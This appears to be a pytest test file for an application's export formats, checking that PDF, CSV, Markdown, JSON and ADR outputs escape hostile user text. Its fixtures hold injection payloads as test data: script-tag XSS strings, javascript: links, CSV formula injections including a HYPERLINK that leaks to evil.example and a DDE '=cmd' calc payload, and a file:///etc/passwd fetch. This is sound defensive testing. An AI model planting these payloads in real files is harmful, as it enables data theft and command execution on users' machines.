"""The export formats of a stored revision, built from ExportDocuments directly (no database)."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import json
import re
import zipfile
from typing import Any

import jsonschema
import pytest
from pypdf import PdfReader

from advisor.engine import default_knowledge_base, evaluate
from advisor.exports import FORMATS, Export, adr, csv_export, detail_text, file_stem, json_export, markdown, pdf
from advisor.exports.document import AuditRecord, EvidenceRecord, ExportDocument, StatusRecord
from advisor.exports.text import csv_cell, md_escape
from advisor.report.summary import STATUS_LABELS, lead
from tests.helpers import BASE_ANSWERS, item_ids, unpacked

RICH_ANSWERS = {
    **BASE_ANSWERS,
    "external_tools": ["siem"],
    "exposure": "public_web",
    "compliance": ["pci_dss"],
    "zero_trust": True,
}
AT = dt.datetime(2026, 5, 4, 13, 20, tzinfo=dt.UTC)
EXPORT_ID = "5f0c2b9e-7d41-4c8a-9b3e-1a2d6f8e0c47"
FIELDS = (
    *("title", "description", "workspace", "label", "owner", "note", "actor", "detail", "justification"),
    *("evidence", "collector"),
)
RAW_MARKUP = re.compile(r"(?<!\\)<script|(?<!\\)\]\(javascript:")  # not preceded by a backslash escape
MADR_HEADINGS = (
    "## Context and Problem Statement",
    "## Decision Drivers",
    "## Considered Options",
    "## Decision Outcome",
    "### Consequences",
)


def hostile(field: str) -> str:
    """A string that is a formula in a spreadsheet and markup in HTML and Markdown; tagged by field."""
    return f"=HYPERLINK(\"http://x/{field}\") <script>alert('{field}')</script> [x](javascript:alert(1)) |{field}|"


def make_doc(
    answers: dict[str, Any] | None = None,
    *,
    evil: bool = False,
    note: str = "Private endpoint on; CIDRs in terraform/network.tf.",
    owner: str = "alice@example.com",
    revision: int = 2,
) -> ExportDocument:
    """A revision with statuses on its first three items and a small audit trail."""
    result = evaluate(answers or RICH_ANSWERS)
    text = hostile if evil else (lambda field: f"Plain {field}")
    ids = [i["id"] for i in result["checklist"]]
    statuses = {
        ids[0]: StatusRecord("done", owner, note, "alice@example.com", AT),
        ids[1]: StatusRecord(
            "in_progress",
            text("owner"),
            text("note"),
            "bob@example.com",
            AT,
            as_of=(AT + dt.timedelta(days=1)).date(),
            due_on=dt.date(2026, 5, 1),  # before the export: overdue
            evidence=(
                EvidenceRecord("text", f"Reviewed in SEC-12 {text('evidence')}", text("collector"), AT),
                EvidenceRecord("link", "https://wiki.example.com/sec-12?a=1&b=2", "bob@example.com", AT),
                EvidenceRecord("link", "javascript:alert(1)", "bob@example.com", AT),  # never stored; never a link
            ),
        ),
        ids[2]: StatusRecord(
            "accepted_risk",
            "Bob",
            "Accepted until Q3:\nsee ticket SEC-12.",
            None,
            None,
            acceptance_justification=f"Vendor fix due in Q3 {text('justification')}",
            acceptance_expires=dt.date(2026, 9, 30),
            acceptance_requested_by="bob@example.com",
            acceptance_approved_by="carol@example.com",
            acceptance_approved_at=AT,
            as_of=(AT + dt.timedelta(days=1)).date(),
        ),
    }
    audit = [
        AuditRecord(AT, "carol@example.com", "exported", {"format": "pdf", "revision": revision, "via": "web"}),
        AuditRecord(
            AT - dt.timedelta(hours=1), text("actor"), "status_changed", {"item": ids[1], "note": text("detail")}
        ),
        AuditRecord(AT - dt.timedelta(days=1), "dave@example.com", "created", {"title": "First"}),
    ]
    return ExportDocument(
        assessment_id=12,
        title=f"Payments platform {text('title')}",
        description=f"Cluster design for the payments team.\n\nSecond paragraph {text('description')}",
        workspace=f"Platform {text('workspace')}",
        revision_number=revision,
        revision_label=f"Go-live {text('label')}",
        revision_created_at=AT - dt.timedelta(days=1),
        revision_author="dave@example.com",
        latest_revision_number=3,
        engine_version=result["engine_version"],
        knowledge_base_version=result["knowledge_base_version"],
        exported_at=AT + dt.timedelta(days=1),
        exported_by="erin@example.com",
        export_id=EXPORT_ID,
        result=result,
        kb=default_knowledge_base(),
        statuses=statuses,
        audit=audit,
    )


def squash(text: str) -> str:
    """Text without whitespace: PDF extraction breaks long strings across lines."""
    return re.sub(r"\s+", "", text)


def pdf_text(content: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages)


@pytest.fixture(scope="module")
def doc() -> ExportDocument:
    return make_doc()


@pytest.fixture(scope="module")
def evil_doc() -> ExportDocument:
    return make_doc(evil=True)


@pytest.fixture(scope="module")
def pdf_export(doc: ExportDocument) -> Export:
    return pdf.render(doc)


@pytest.fixture(scope="module")
def evil_pdf(evil_doc: ExportDocument) -> Export:
    return pdf.render(evil_doc)


# --- the registry -------------------------------------------------------------------------------


EVIL_STEM = "payments-platform-hyperlink-http-x-title-script-alert-title-rev-2-2026-05-05"  # title, revision, as-of day


@pytest.mark.parametrize(
    ("fmt", "mimetype", "filename"),
    [
        ("pdf", "application/pdf", f"{EVIL_STEM}.pdf"),
        # text formats name no charset: Response(mimetype=...) adds "; charset=utf-8" (and only once)
        ("markdown", "text/markdown", f"{EVIL_STEM}.md"),
        ("csv", "text/csv", f"{EVIL_STEM}.csv"),
        ("compliance_csv", "text/csv", f"{EVIL_STEM}-compliance.csv"),
        ("json", "application/json", f"{EVIL_STEM}.json"),
        ("adr", "application/zip", f"{EVIL_STEM}-adr.zip"),
        ("oscal", "application/zip", f"{EVIL_STEM}-oscal.zip"),
    ],
)
def test_registry_renders_every_format(fmt: str, mimetype: str, filename: str, evil_doc: ExportDocument) -> None:
    rendered = FORMATS[fmt](evil_doc)
    assert isinstance(rendered, Export)
    assert isinstance(rendered.content, bytes)
    assert rendered.content
    assert rendered.mimetype == mimetype
    assert rendered.filename == filename  # a slug of the (hostile) title: letters, digits and dashes only
    assert re.fullmatch(r"[A-Za-z0-9.-]+", rendered.filename)


def test_registry_lists_the_contract_formats() -> None:
    assert set(FORMATS) == {"pdf", "markdown", "csv", "compliance_csv", "csv_tables", "xlsx", "json", "adr", "oscal"}


@pytest.mark.parametrize(
    ("fmt", "mimetype", "suffix"),
    [
        ("csv_tables", "application/zip", "-tables.zip"),
        ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", ".xlsx"),
    ],
)
def test_registry_renders_the_audit_tables(fmt: str, mimetype: str, suffix: str, evil_doc: ExportDocument) -> None:
    rendered = FORMATS[fmt](evil_doc)
    assert (rendered.mimetype, rendered.filename) == (mimetype, file_stem(evil_doc) + suffix)
    assert rendered.content.startswith(b"PK")  # both are zips


# --- PDF ----------------------------------------------------------------------------------------


def test_pdf_is_a_document_with_every_item_and_the_cover(pdf_export: Export, doc: ExportDocument) -> None:
    assert pdf_export.content.startswith(b"%PDF")
    reader = PdfReader(io.BytesIO(pdf_export.content))
    assert len(reader.pages) >= 2
    text = squash(pdf_text(pdf_export.content))
    for item_id in item_ids(doc.result):
        assert item_id in text, item_id
    for cover in (
        doc.title,
        doc.workspace,
        doc.revision_label or "",
        "Revision2of3",
        doc.engine_version,
        doc.knowledge_base_version,
        "2026-05-0313:20UTC",  # revision saved
        "2026-05-0513:20UTC",  # exported
    ):
        assert squash(cover) in text, cover
    # each applicable decision, statuses, owners and notes, references, the audit trail, page numbers
    for d in doc.result["decisions"]:
        assert squash(d["label"]) in text
        if d["applicable"] and d["recommended"]:
            assert squash(lead(d["margin"])) in text, "how far each recommendation leads, a tie called one"
    for status in doc.statuses.values():
        assert squash(status.owner) in text
        assert squash(status.note) in text
    assert "Riskaccepted" in text
    assert "https://kubernetes.io/docs/" in text
    assert "AppendixB:Activity" in text
    assert "statuschanged" in text
    assert "Page2of" in text


def test_pdf_marks_each_close_call_and_only_those(pdf_export: Export, doc: ExportDocument) -> None:
    """Issue 14: the summary table tags a narrow win, and its decision says so with what would settle it."""
    close = [d for d in doc.result["decisions"] if d.get("close_call")]
    assert close, "the fixture's answers give a close call"
    text = squash(pdf_text(pdf_export.content))
    assert text.count("Aclosecall:") == len(close)
    for d in close:
        assert squash(d["close_call_advice"])[:60] in text
    for d in doc.result["decisions"]:
        if d["applicable"] and d["recommended"]:
            label = next(a["label"] for a in d["alternatives"] if a["id"] == d["recommended"])
            tagged = squash(label) + "closecall" in text  # the summary table's cell
            assert tagged == bool(d.get("close_call")), d["id"]


def test_pdf_metadata_title_is_the_assessment_title(pdf_export: Export, doc: ExportDocument) -> None:
    metadata = PdfReader(io.BytesIO(pdf_export.content)).metadata
    assert metadata is not None
    assert metadata.title == doc.title


def test_pdf_shows_hostile_text_literally(evil_pdf: Export) -> None:
    text = squash(pdf_text(evil_pdf.content))
    for field in FIELDS:
        # escaped markup is laid out as text; a real <script> element would not show at all
        assert squash(f"<script>alert('{field}')</script>") in text, field
    assert "[x](javascript:alert(1))" in text


def test_pdf_fetches_nothing() -> None:
    fetcher = pdf._fetcher()
    for url in ("http://example.com/x.css", "https://example.com/font.woff", "file:///etc/passwd"):
        with pytest.raises(ValueError, match="fetches nothing"):
            fetcher.fetch(url)


def test_pdf_template_references_nothing_outside() -> None:
    html = pdf.to_html(make_doc(evil=True))
    assert not re.search(r"<(link|img|script|iframe|object)\b", html)
    assert "@import" not in pdf._stylesheet_text()
    assert "url(" not in pdf._stylesheet_text()


# --- CSV ----------------------------------------------------------------------------------------


def parse_csv(content: bytes) -> list[dict[str, str]]:
    assert content.startswith(b"\xef\xbb\xbf")  # UTF-8 byte-order mark, for Excel
    text = content[3:].decode("utf-8")
    return list(csv.DictReader(io.StringIO(text, newline="")))


EXPORT_ID = "0b7c6f1e-4a57-4f0e-9d55-6a1f6a4f2c11"


def test_csv_lists_every_item_with_its_status(doc: ExportDocument) -> None:
    doc = dataclasses.replace(doc, export_id=EXPORT_ID)
    content = csv_export.render(doc).content
    # the columns, pinned: a change here changes every spreadsheet and script reading the file (contract §8)
    assert content.split(b"\r\n")[0] == (
        b'\xef\xbb\xbf"assessment_id","assessment_title","revision","export_id","as_of",'
        b'"sign_off","signed_off_by","signed_off_at","approved_by","approved_at",'
        b'"id","topic","topic_label","priority","priority_label","title","status","status_label","owner","note",'
        b'"updated_by","updated_at","why","how",'
        b'"start_here","phase","phase_label","effort","effort_label","responsibility","responsibility_label",'
        b'"priority_because","included_because",'
        b'"needs_review","acceptance","acceptance_label","acceptance_justification","acceptance_expires",'
        b'"acceptance_requested_by","acceptance_approved_by","acceptance_approved_at",'
        b'"due_on","overdue","evidence","evidence_count","scan_status","scan_status_label","scanner_disagrees",'
        b'"verification_result","verification_label","verification_procedure","verified_by","verified_at"'
    )
    assert content.endswith(b"\r\n")
    rows = parse_csv(content)
    assert [r["id"] for r in rows] == [i["id"] for i in doc.result["checklist"]]
    for row, item in zip(rows, doc.result["checklist"], strict=True):
        assert (row["assessment_id"], row["assessment_title"], row["revision"]) == ("12", doc.title, "2")
        assert (row["export_id"], row["as_of"]) == (EXPORT_ID, "2026-05-05T13:20:00+00:00")
        assert (row["sign_off"], row["signed_off_by"], row["approved_at"]) == ("unsigned", "", "")
        assert (row["topic"], row["priority"], row["priority_label"]) == (
            item["topic"],
            item["priority"],
            item["priority"].capitalize(),
        )
        st = doc.status_of(row["id"])
        assert (row["status"], row["owner"], row["note"]) == (st.status, st.owner, st.note)
        assert row["status_label"] == STATUS_LABELS[st.status]
    assert sum(r["status"] == "todo" for r in rows) == len(rows) - 3
    assert rows[0]["topic_label"] == "Control-plane access"
    assert (rows[0]["updated_by"], rows[0]["updated_at"]) == ("alice@example.com", "2026-05-04T13:20:00+00:00")
    assert (rows[3]["updated_by"], rows[3]["updated_at"]) == ("", "")
    accepted = rows[2]
    assert (accepted["acceptance"], accepted["acceptance_label"], accepted["acceptance_expires"]) == (
        "approved",
        "Risk accepted",
        "2026-09-30",
    )
    assert (accepted["acceptance_approved_by"], accepted["acceptance_approved_at"]) == (
        "carol@example.com",
        "2026-05-04T13:20:00+00:00",
    )
    assert accepted["acceptance_justification"] == "Vendor fix due in Q3 Plain justification"
    assert accepted["acceptance_requested_by"] == "bob@example.com"
    assert {r["acceptance"] for r in rows[3:]} == {""}
    assert (rows[1]["due_on"], rows[1]["scan_status"], rows[1]["scan_status_label"]) == (
        "2026-05-01",
        "none",
        "No scan results",
    )
    for packed in ("references", "decisions", "frameworks"):
        assert packed not in rows[0], f"{packed}: one value a cell, in their own tables"


def csv_tables(doc: ExportDocument) -> dict[str, list[dict[str, str]]]:
    return {name: parse_csv(data) for name, data in unpacked(csv_export.render_tables(doc).content).items()}


def test_csv_tables_hold_the_long_tables_one_value_a_cell(doc: ExportDocument) -> None:
    doc = dataclasses.replace(doc, export_id=EXPORT_ID)
    files = csv_tables(doc)
    assert list(files) == [
        *("checklist.csv", "references.csv", "decisions.csv", "framework_mappings.csv"),
        *("evidence.csv", "exceptions.csv", "removed_items.csv", "history.csv"),
    ]
    assert files["checklist.csv"] == parse_csv(csv_export.render(doc).content)
    assert files["framework_mappings.csv"] == parse_csv(csv_export.render_mapping(doc).content)
    for name, rows in files.items():
        assert {(r["assessment_id"], r["revision"], r["export_id"]) for r in rows} <= {("12", "2", EXPORT_ID)}, name
    checklist = doc.result["checklist"]
    assert [(r["item_id"], r["label"], r["url"]) for r in files["references.csv"]] == [
        (i["id"], csv_cell(ref["label"]), ref["url"]) for i in checklist for ref in i["references"]
    ], "as every CSV cell: a piece after a separator that starts a formula is neutralised"
    decisions = {d["id"]: d for d in doc.result["decisions"]}
    assert [(r["item_id"], r["decision"]) for r in files["decisions.csv"]] == [
        (i["id"], d) for i in checklist for d in i["decisions"]
    ]
    first = files["decisions.csv"][0]
    assert first["decision_label"] == decisions[first["decision"]]["label"]
    assert first["recommended"] == (decisions[first["decision"]]["recommended"] or "")
    evidence = files["evidence.csv"]
    assert [(r["item_id"], r["kind"]) for r in evidence] == [(checklist[1]["id"], k) for k in ("text", "link", "link")]
    assert (evidence[1]["text"], evidence[1]["added_at"]) == (
        "https://wiki.example.com/sec-12?a=1&b=2",
        "2026-05-04T13:20:00+00:00",
    )
    (exception,) = files["exceptions.csv"]
    assert (exception["item_id"], exception["status"], exception["expires"]) == (
        checklist[2]["id"],
        "accepted_risk",
        "2026-09-30",
    )
    assert (exception["requested_by"], exception["approved_by"]) == ("bob@example.com", "carol@example.com")
    history = files["history.csv"]
    assert [(r["at"], r["actor"], r["action"]) for r in history] == [
        (a.at.isoformat(), a.actor, a.action) for a in doc.audit
    ]
    assert history[1]["details"] == detail_text(doc.audit[1].detail, doc.kb)
    assert history[1]["action_label"] == "status changed"


def test_csv_tables_neutralise_formulas_in_every_file(evil_doc: ExportDocument) -> None:
    for name, data in unpacked(csv_export.render_tables(evil_doc).content).items():
        assert not [p for p in spreadsheet_pieces(data) if live_formula(p)], name


@pytest.mark.parametrize(
    ("formula", "neutral"),
    [
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t'=1"),  # the tab is a separator too: the piece after it is neutralised as well
        ("\r=1", "'\r'=1"),
    ],
)
def test_csv_neutralises_formulas(formula: str, neutral: str) -> None:
    rows = parse_csv(csv_export.render(make_doc(note=formula, owner=formula)).content)
    assert rows[0]["note"] == neutral
    assert rows[0]["owner"] == neutral


def test_csv_cells_never_start_a_formula(evil_doc: ExportDocument) -> None:
    for row in parse_csv(csv_export.render(evil_doc).content):
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


# a formula after a separator a spreadsheet may split the cell on (issue 10, item 15)
SPLIT_FORMULAS = [
    ('ok;=HYPERLINK("http://evil.example/?leak=1")', 'ok;\'=HYPERLINK("http://evil.example/?leak=1")'),
    ("a,@SUM(1)", "a,'@SUM(1)"),
    ("a\t+1+1", "a\t'+1+1"),
    ("first line\n-2+3", "first line\n'-2+3"),
    ("first line\r\n=1", "first line\r\n'=1"),
    ("a; =cmd|' /C calc'!A0", "a;' =cmd|' /C calc'!A0"),  # spaces are trimmed on import by some spreadsheets
    ('a;"=1+2', "a;'\"=1+2"),
    ("=1;=2,=3", "'=1;'=2,'=3"),
]


def spreadsheet_pieces(content: bytes) -> list[str]:
    """Every cell a spreadsheet could make of the file, splitting on any separator and ignoring quotes."""
    text = content.decode("utf-8-sig")
    return [piece for piece in re.split(r"[;,\t\r\n]", text) if piece]


def live_formula(piece: str) -> bool:
    return piece.lstrip(' "').startswith(("=", "+", "-", "@"))


@pytest.mark.parametrize(("formula", "neutral"), SPLIT_FORMULAS)
def test_csv_neutralises_formulas_after_a_separator(formula: str, neutral: str) -> None:
    doc = make_doc(note=formula, owner=formula)
    content = csv_export.render(doc).content
    rows = parse_csv(content)
    assert rows[0]["note"] == neutral
    assert rows[0]["owner"] == neutral
    assert not [p for p in spreadsheet_pieces(content) if live_formula(p)]


def test_csv_quotes_every_cell() -> None:
    content = csv_export.render(make_doc(note="a;b", owner="plain")).content
    rows = [list(csv_export.COLUMNS), *([row[c] for c in csv_export.COLUMNS] for row in parse_csv(content))]
    out = io.StringIO()
    csv.writer(out, quoting=csv.QUOTE_ALL, lineterminator="\r\n").writerows(rows)
    assert content == ("\ufeff" + out.getvalue()).encode("utf-8")


def test_csv_from_hostile_text_has_no_live_formula_anywhere(evil_doc: ExportDocument) -> None:
    hostile_doc = make_doc(evil=True, note="; ".join(f for f, _ in SPLIT_FORMULAS), owner="x,=1")
    for doc in (evil_doc, hostile_doc):
        content = csv_export.render(doc).content
        assert not [p for p in spreadsheet_pieces(content) if live_formula(p)]


# --- Markdown -----------------------------------------------------------------------------------


def test_markdown_holds_every_item_decision_warning_and_the_audit_trail() -> None:
    answers = {**RICH_ANSWERS, "experience": "novice", "air_gapped": True}  # brings warnings
    doc = make_doc(answers)
    text = markdown.render(doc).content.decode("utf-8")
    for item in doc.result["checklist"]:
        assert f"`{item['id']}`" in text
    assert doc.result["warnings"]
    assert "## Warnings" in text
    for d in doc.result["decisions"]:
        assert f"### {d['label']}" in text
    assert "score " in text
    assert "| Done | alice@example.com | Private endpoint on; CIDRs in terraform/network.tf. |" in text
    assert "Accepted until Q3: see ticket SEC-12." in text  # a note's line break cannot break the table
    assert "## Activity" in text
    assert "| status changed |" in text


def test_markdown_escapes_user_text(evil_doc: ExportDocument) -> None:
    text = markdown.render(evil_doc).content.decode("utf-8")
    assert not RAW_MARKUP.search(text)
    for field in FIELDS:
        assert f"\\<script\\>alert('{field}')\\</script\\>" in text, field
        assert f"\\|{field}\\|" in text, field
    assert "\\[x\\](javascript:alert(1))" in text


# --- JSON ---------------------------------------------------------------------------------------


def test_json_validates_against_the_shipped_schema(doc: ExportDocument) -> None:
    data = json.loads(json_export.render(doc).content)
    schema = json_export.schema()
    jsonschema.Draft202012Validator.check_schema(schema)
    jsonschema.Draft202012Validator(schema, format_checker=jsonschema.FormatChecker()).validate(data)
    assert data["format"] == "advisor-export"
    assert data["format_version"] == 1
    assert data["result"] == doc.result  # the contract §4 result, unchanged
    assert set(data["statuses"]) == item_ids(doc.result)
    assert data["revision"] == {
        "number": 2,
        "label": doc.revision_label,
        "created_at": "2026-05-03T13:20:00+00:00",
        "author": "dave@example.com",
        "engine_version": doc.engine_version,
        "knowledge_base_version": doc.knowledge_base_version,
        "latest": False,
        "latest_number": 3,
    }
    assert data["audit"][0] == {
        "at": "2026-05-04T13:20:00+00:00",
        "actor": "carol@example.com",
        "action": "exported",
        "detail": {"format": "pdf", "revision": 2, "via": "web"},
    }


def test_json_schema_rejects_what_it_should(doc: ExportDocument) -> None:
    validator = jsonschema.Draft202012Validator(json_export.schema())
    good = json.loads(json_export.render(doc).content)
    first = doc.result["checklist"][0]["id"]
    for path, value in [
        (("statuses", first, "status"), "finished"),
        (("result", "checklist", 0, "priority"), "urgent"),
        (("result", "checklist", 0, "topic"), "dns"),
        (("result", "decisions", 0, "id"), "storage"),
        (("format_version",), 2),
        (("assessment", "id"), "12"),
    ]:
        bad = json.loads(json.dumps(good))
        target = bad
        for key in path[:-1]:
            target = target[key]
        target[path[-1]] = value
        assert not validator.is_valid(bad), path
    missing = json.loads(json.dumps(good))
    del missing["revision"]["engine_version"]
    assert not validator.is_valid(missing)


def test_json_round_trips_and_keeps_hostile_text_as_strings(evil_doc: ExportDocument) -> None:
    content = json_export.render(evil_doc).content
    data = json.loads(content)
    assert json.loads(json.dumps(data, ensure_ascii=False)) == data
    assert data["assessment"]["title"] == evil_doc.title
    assert data["assessment"]["description"] == evil_doc.description
    assert data["assessment"]["workspace"] == evil_doc.workspace
    assert data["revision"]["label"] == evil_doc.revision_label
    second = evil_doc.result["checklist"][1]["id"]
    assert data["statuses"][second]["owner"] == hostile("owner")
    assert data["statuses"][second]["note"] == hostile("note")
    assert data["audit"][1]["actor"] == hostile("actor")
    assert data["audit"][1]["detail"]["note"] == hostile("detail")
    jsonschema.Draft202012Validator(json_export.schema()).validate(data)


# --- ADR ----------------------------------------------------------------------------------------


def adr_files(doc: ExportDocument) -> dict[str, str]:
    archive = zipfile.ZipFile(io.BytesIO(adr.render(doc).content))
    assert archive.testzip() is None
    return {name: archive.read(name).decode("utf-8") for name in archive.namelist()}


@pytest.mark.parametrize(
    ("answers", "expected"),
    [
        (RICH_ANSWERS, ["hosting", "clusters", "namespaces", "service-mesh", "tool-integration"]),
        (BASE_ANSWERS, ["hosting", "clusters", "namespaces", "service-mesh"]),  # no external tools
    ],
)
def test_adr_has_one_madr_record_per_applicable_decision(answers: dict[str, Any], expected: list[str]) -> None:
    doc = make_doc(answers)
    files = adr_files(doc)
    records = sorted(name for name in files if name not in ("README.md", adr.MANIFEST))
    assert records == [f"{n:04d}-{name}.md" for n, name in enumerate(expected, start=1)]
    applicable = [d for d in doc.result["decisions"] if d["applicable"]]
    assert len(records) == len(applicable)
    for name, d in zip(records, applicable, strict=True):
        text = files[name]
        assert text.startswith("---\nstatus: proposed\ndate: 2026-05-03\n---\n")
        assert f"# {d['label']}: " in text
        for heading in MADR_HEADINGS:
            assert f"\n{heading}\n" in text, (name, heading)
        chosen = next(a for a in d["alternatives"] if a["id"] == d["recommended"])
        assert f'Chosen option: "{chosen["label"]}", because ' in text
        if d["margin"] == 0:  # the base answers tie on the service mesh
            assert "level with" in text
            assert "a tie goes to the option listed first" not in text, "engine 2.x names its tie-break"
            assert "It is level with" in text
            assert "0.0 points ahead" not in text
        elif d["margin"] is not None:
            assert f"{d['margin'] * 100:.1f} points ahead of" in text
        for alt in d["alternatives"]:
            assert alt["label"] in text
        brought = [i["id"] for i in doc.result["checklist"] if d["id"] in i["decisions"]]
        for item_id in brought:
            assert f"`{item_id}`" in text
        assert "Kubernetes security experience of the team: Intermediate" in text  # answers, readably
        assert "weight 16.7%" in text
        assert name in files["README.md"]
    if "tool-integration" not in expected:
        assert "Not recorded, because not applicable" in files["README.md"]
        assert "no third-party monitoring or security tools are planned" in files["README.md"]


def test_adr_records_the_done_state_of_brought_items(doc: ExportDocument) -> None:
    text = adr_files(doc)["0001-hosting.md"]
    first = doc.result["checklist"][0]
    assert "hosting" in first["decisions"]
    assert f"- [x] `{first['id']}`" in text
    assert "owner alice@example.com" in text


def test_adr_escapes_user_text(evil_doc: ExportDocument) -> None:
    files = adr_files(evil_doc)
    for name, text in files.items():
        assert not RAW_MARKUP.search(text), name
    joined = "\n".join(files.values())
    for field in ("title", "description", "workspace", "label", "owner", "note"):
        assert f"\\<script\\>alert('{field}')\\</script\\>" in joined, field


# --- escaping, every format, every user field ------------------------------------------------------


@pytest.mark.parametrize("fmt", ["markdown", "csv", "json", "adr"])
def test_no_format_lets_hostile_text_through(fmt: str, evil_doc: ExportDocument) -> None:
    content = FORMATS[fmt](evil_doc).content
    if fmt == "csv":  # user text in the CSV: owners and notes; a spreadsheet's risk is formulas
        second = parse_csv(content)[1]
        assert second["owner"] == "'" + hostile("owner")
        assert second["note"] == "'" + hostile("note")
        return
    if fmt == "json":  # kept verbatim, as JSON strings
        text = json.dumps(json.loads(content), ensure_ascii=False)
        for field in FIELDS:
            assert json.dumps(hostile(field))[1:-1] in text, field
        return
    text = "\n".join(adr_files(evil_doc).values()) if fmt == "adr" else content.decode("utf-8")
    assert not RAW_MARKUP.search(text)
    fields = FIELDS if fmt == "markdown" else ("title", "description", "workspace", "label", "owner", "note")
    for field in fields:
        assert f"\\<script\\>alert('{field}')\\</script\\>" in text, field


# --- the activity sections --------------------------------------------------------------------------


def test_activity_names_items_by_title_and_statuses_by_label(doc: ExportDocument) -> None:
    item = doc.result["checklist"][0]
    trail = [
        AuditRecord(
            AT, "amy@example.com", "status_changed", {"item": item["id"], "before": "todo", "after": "accepted_risk"}
        ),
        AuditRecord(
            AT, "amy@example.com", "status_changed", {"item": "retired-item", "before": "done", "after": "todo"}
        ),
    ]
    changed = dataclasses.replace(doc, audit=trail)
    words = f"item: {item['title']}; status: To do → Risk accepted"
    assert detail_text(trail[0].detail, doc.kb) == words
    assert detail_text(trail[1].detail, doc.kb) == "item: retired-item; status: Done → To do", "an id the KB lost stays"
    assert md_escape(words) in markdown.render(changed).content.decode("utf-8")
    assert squash(words) in squash(pdf_text(pdf.render(changed).content))
    exported = json.loads(json_export.render(changed).content)
    assert exported["audit"][0]["detail"] == trail[0].detail, "the JSON export keeps the raw ids"


@pytest.mark.parametrize(
    ("title", "stem"),
    [
        ("Payments platform", "payments-platform-rev-2-2026-05-05"),  # the title, the revision, the as-of day
        ("  Zürich — Café (EU) v2!  ", "zurich-cafe-eu-v2-rev-2-2026-05-05"),
        ("Ünïcödé only: 東京", "unicode-only-rev-2-2026-05-05"),
        ("東京", "assessment-12-rev-2-2026-05-05"),
        ("---", "assessment-12-rev-2-2026-05-05"),
        ("a" * 59 + " b" + "c" * 40, "a" * 59 + "-rev-2-2026-05-05"),
    ],
)
def test_file_names_come_from_the_title(doc: ExportDocument, title: str, stem: str) -> None:
    named = dataclasses.replace(doc, title=title)
    assert file_stem(named) == stem
    assert FORMATS["pdf"](named).filename == f"{stem}.pdf"
